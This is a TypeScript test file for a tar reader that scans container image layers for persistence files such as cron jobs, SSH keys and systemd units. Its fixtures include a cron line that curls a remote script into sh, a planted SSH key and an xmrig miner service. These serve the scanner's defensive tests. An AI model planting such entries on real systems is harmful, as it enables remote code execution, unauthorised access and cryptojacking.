/**
 * The layer reader on archives written by GNU tar (an independent implementation): ustar, pax and
 * GNU long names, links and whiteouts skipped, caps, and corrupt input reported, never thrown
 * past readLayer as anything but a download failure.
 */
import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { gzipSync } from "node:zlib";
import { afterAll, describe, expect, it } from "vitest";
import { MAX_LAYER_UNCOMPRESSED, readLayer, wantedFile } from "../../src/collectors/registry/layers.js";
import { normalisePath, TarError, TarReader } from "../../src/collectors/registry/tar.js";
import { MAX_PAYLOAD_CHARS } from "../../src/model/records.js";
import { tempDir } from "../helpers.js";

const tmp = tempDir();
afterAll(() => tmp.cleanup());

const LONG_DIR = `etc/systemd/system/${"a".repeat(90)}.wants`;
const CRON = "*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n";

/** A root file system with wanted files, unwanted ones, links and a whiteout. */
function rootfs(): string {
  const root = join(tmp.dir, `rootfs-${Math.random().toString(36).slice(2)}`);
  const put = (p: string, text: string) => {
    mkdirSync(join(root, p, ".."), { recursive: true });
    writeFileSync(join(root, p), text);
  };
  put("etc/cron.d/backup", CRON);
  put("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmNCr3JXqmLW7ug9pTh x@kali\n");
  put("etc/profile.d/big.sh", `# ${"x".repeat(MAX_PAYLOAD_CHARS + 100)}\n`);
  put("usr/bin/tool", "not wanted");
  put("etc/cron.d/.wh.old-job", "");
  put(`${LONG_DIR}/miner.service`, "[Service]\nExecStart=/opt/x/xmrig -o stratum+tcp://pool.example.org:3333\n");
  // A symlink and a hard link to a wanted path: neither is followed or read.
  symlinkSync("/etc/shadow", join(root, "etc/cron.d/link"));
  execFileSync("ln", [join(root, "etc/cron.d/backup"), join(root, "etc/cron.d/hardlink")]);
  return root;
}

function tarOf(root: string, format: string): Buffer {
  // Sorted by name, so the first of the two hard-linked names is the regular file.
  return execFileSync("tar", ["-C", root, "--sort=name", `--format=${format}`, "-cf", "-", "."], {
    maxBuffer: 1 << 26,
  });
}

function read(tar: Buffer, chunk = 7): TarReader {
  const r = new TarReader({ select: wantedFile, maxFileBytes: MAX_PAYLOAD_CHARS, maxFiles: 256 });
  // Odd chunk sizes: headers and bodies arrive split anywhere.
  for (let i = 0; i < tar.length; i += chunk) r.push(tar.subarray(i, i + chunk));
  r.end();
  return r;
}

describe("tar reader", () => {
  const root = rootfs();
  for (const format of ["ustar", "pax", "gnu"]) {
    it(`reads wanted regular files from a ${format} archive and skips links, whiteouts and the rest`, () => {
      const r = read(tarOf(root, format), format === "gnu" ? 511 : 7);
      const byPath = new Map(r.files.map((f) => [f.path, f]));
      expect([...byPath.keys()].sort()).toEqual(
        [
          "/etc/cron.d/backup",
          "/etc/profile.d/big.sh",
          `/${LONG_DIR}/miner.service`,
          "/root/.ssh/authorized_keys",
        ].sort(),
      );
      expect(byPath.get("/etc/cron.d/backup")?.content.toString()).toBe(CRON);
      const big = byPath.get("/etc/profile.d/big.sh");
      expect(big?.truncated).toBe(true);
      expect(big?.content.length).toBe(MAX_PAYLOAD_CHARS);
      expect(byPath.get("/etc/cron.d/backup")?.truncated).toBe(false);
      expect(r.done).toBe(true);
    });
  }

  it("keeps at most maxFiles and counts the rest", () => {
    const r = new TarReader({ select: wantedFile, maxFileBytes: 100, maxFiles: 1 });
    r.push(tarOf(root, "pax"));
    r.end();
    expect(r.files.length).toBe(1);
    expect(r.dropped).toBe(3);
  });

  it("rejects a header whose checksum does not match, and an archive cut inside an entry", () => {
    const tar = tarOf(root, "ustar");
    const bad = Buffer.from(tar);
    bad[5] = (bad[5] as number) ^ 0x55;
    expect(() => read(bad)).toThrow(TarError);
    expect(() => read(tar.subarray(0, 512 + 100))).toThrow(/cut off/);
    const size = Buffer.from(tar);
    size.write("9999999999x", 124, "latin1");
    expect(() => read(size)).toThrow(TarError);
  });

  it("normalises paths and refuses ones that climb out", () => {
    expect(normalisePath("./etc//cron.d/x")).toBe("/etc/cron.d/x");
    expect(normalisePath("/root/.ssh/authorized_keys")).toBe("/root/.ssh/authorized_keys");
    expect(normalisePath("../../etc/crontab")).toBeUndefined();
    expect(wantedFile("/etc/cron.d/x")).toBe(true);
    expect(wantedFile("/home/app/.ssh/authorized_keys2")).toBe(true);
    expect(wantedFile("/etc/ld.so.preload")).toBe(false);
    expect(wantedFile("/usr/bin/crontab")).toBe(false);
  });
});

describe("readLayer", () => {
  const root = rootfs();
  const layer = gzipSync(tarOf(root, "pax"));
  const stream = (b: Buffer, chunk = 1000) =>
    Readable.from(
      (function* () {
        for (let i = 0; i < b.length; i += chunk) yield b.subarray(i, i + chunk);
      })(),
    );

  it("gunzips and reads the wanted files as text", async () => {
    const r = await readLayer(stream(layer), layer.length);
    expect(r.problem).toBeUndefined();
    expect(r.files.find((f) => f.path === "/etc/cron.d/backup")?.content).toBe(CRON);
  });

  it("reports a corrupt gzip, a bad tar, more bytes than declared and a gzip bomb as problems", async () => {
    const cut = Buffer.from(layer);
    // The CRC-32 in the trailer: the data inflates, the check fails.
    cut[cut.length - 8] = (cut[cut.length - 8] as number) ^ 0xff;
    expect((await readLayer(stream(cut), cut.length)).problem).toMatch(/not valid gzip/);
    expect((await readLayer(stream(Buffer.from("plain text")), 10)).problem).toMatch(/not valid gzip/);
    const junk = gzipSync(Buffer.alloc(1024, 0x41));
    expect((await readLayer(stream(junk), junk.length)).problem).toMatch(/not a readable tar archive/);
    expect((await readLayer(stream(layer), layer.length - 1)).problem).toMatch(/larger than/);
    const bomb = gzipSync(Buffer.alloc(MAX_LAYER_UNCOMPRESSED + 1024));
    const r = await readLayer(stream(bomb, 64 * 1024), bomb.length);
    expect(r.problem).toMatch(/expands to more than/);
  });

  it("throws what the download throws (not a layer problem: nothing may be cached)", async () => {
    const failing = Readable.from(
      (async function* () {
        yield layer.subarray(0, 100);
        throw new Error("DigestMismatchError: digest does not match");
      })(),
    );
    await expect(readLayer(failing, layer.length)).rejects.toThrow(/DigestMismatch/);
  });
});
